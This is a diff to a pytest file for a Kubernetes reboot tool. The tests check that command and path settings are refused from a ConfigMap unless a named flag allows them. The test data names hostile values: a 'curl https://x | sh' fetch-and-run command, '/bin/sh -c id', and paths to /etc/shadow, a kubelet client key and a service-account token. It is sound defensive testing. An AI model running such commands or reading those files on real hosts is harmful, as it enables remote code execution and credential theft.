@@ -12,11 +12,12 @@ from careen.settings import kinds, last_good
 from careen.settings.config_map_limits import POWERS, Power
 from careen.settings.live import Given, LiveSettings, SeenConfigMap
 from careen.settings.sources import BadSettings, resolve
-from careen.settings.tree import DEFAULTS, SETTINGS, flag
+from careen.settings.tree import DEFAULTS, SETTINGS, Settings, flag
 
 NAME = "careen/careen"
 # What each would do if it were taken.
 HARM: dict[str, str] = {
+    "reboot_probes": "zypper",  # runs what the host has under that name
     "reboot_sentinel_command": "sh -c 'curl https://x | sh'",
     "reboot_command": "/bin/sh -c id",
     "host_exec": "direct",
@@ -29,6 +30,8 @@ HARM: dict[str, str] = {
     "prometheus_ca_file": "/tmp/mine",
     "prometheus_client_certificate_file": "/proc/1/root/var/lib/kubelet/pki/kubelet-client-current.pem",
     "prometheus_client_key_file": "/proc/1/root/etc/shadow",
+    "alertmanager_token_file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "alertmanager_ca_file": "/tmp/mine",
     "scheduler_config": "/proc/1/root/etc/shadow",
 }
 # What goes with some of them, so that they contradict nothing.
@@ -39,7 +42,8 @@ BESIDE = {
 
 
 def flags_for(name: str, **more: str) -> dict[str, tuple[str, ...]]:
-    url = {"prometheus_url": ("https://p",)} if name.startswith("prometheus") else {}
+    server = name.partition("_")[0]
+    url = {f"{server}_url": ("https://p",)} if server in ("prometheus", "alertmanager") else {}
     return {"node_id": ("n1",), **url, **BESIDE.get(name, {}), **{key: (value,) for key, value in more.items()}}
 
 
@@ -47,18 +51,23 @@ def settle(config: dict[str, Any], flags: dict[str, tuple[str, ...]], environmen
     return resolve(flags=flags, environment=environment or {}, config_map=config, config_map_name=NAME)
 
 
+def written(settings: Settings, name: str) -> str:
+    return SETTINGS[name].kind.shown(getattr(settings, name))
+
+
 def test_these_settings_and_no_others_are_kept_from_the_config_map() -> None:
     assert POWERS.keys() == HARM.keys()
     assert {name for name, power in POWERS.items() if power is Power.COMMANDS} == {
         "reboot_sentinel_command",
         "reboot_command",
+        "reboot_probes",
         "host_exec",
         "reboot_signal",
     }
 
 
 def test_a_new_command_or_path_is_kept_from_the_config_map_unless_it_is_only_looked_for() -> None:
-    dangerous = (kinds.COMMAND, kinds.PATH, kinds.SCHEDULER_CONFIG)
+    dangerous = (kinds.COMMAND, kinds.PATH, kinds.PATHS, kinds.SCHEDULER_CONFIG)
     free = {
         name
         for name, setting in SETTINGS.items()
@@ -81,7 +90,7 @@ def test_the_config_map_may_not_set_what_makes_root(name: str) -> None:
 @pytest.mark.parametrize("name", HARM)
 def test_it_may_after_the_flag_that_the_refusal_names(name: str) -> None:
     settings = settle({flag(name): HARM[name]}, flags_for(name, **{POWERS[name]: "true"})).settings
-    assert str(getattr(settings, name)) == HARM[name]
+    assert written(settings, name) == HARM[name]
     also = settle({flag(name): HARM[name]}, flags_for(name), {f"CAREEN_{POWERS[name].upper()}": "true"}).settings
     assert getattr(also, name) == getattr(settings, name)
 
@@ -95,9 +104,9 @@ def test_the_other_flag_does_not_let_it(name: str) -> None:
 
 @pytest.mark.parametrize("name", HARM)
 def test_flags_and_environment_may_set_it(name: str) -> None:
-    assert str(getattr(settle({}, {**flags_for(name), name: (HARM[name],)}).settings, name)) == HARM[name]
+    assert written(settle({}, {**flags_for(name), name: (HARM[name],)}).settings, name) == HARM[name]
     variable = {f"CAREEN_{name.upper()}": HARM[name]}
-    assert str(getattr(settle({}, flags_for(name), variable).settings, name)) == HARM[name]
+    assert written(settle({}, flags_for(name), variable).settings, name) == HARM[name]
 
 
 def test_it_is_refused_also_where_a_flag_counts_more() -> None:
@@ -256,7 +265,7 @@ def test_the_settings_kept_on_the_node_are_no_way_round_it(name: str) -> None:
     assert back.resolved.settings.concurrency == 3, "the rest is kept: a window stays closed"
     assert not back.is_whole, "nothing is begun, and no drain ends in a reboot, on what is left"
     trusted = restored(text, flags_for(name, **{POWERS[name]: "true"}))
-    assert str(getattr(trusted.resolved.settings, name)) == HARM[name]
+    assert written(trusted.resolved.settings, name) == HARM[name]
     assert trusted.is_whole
 
 
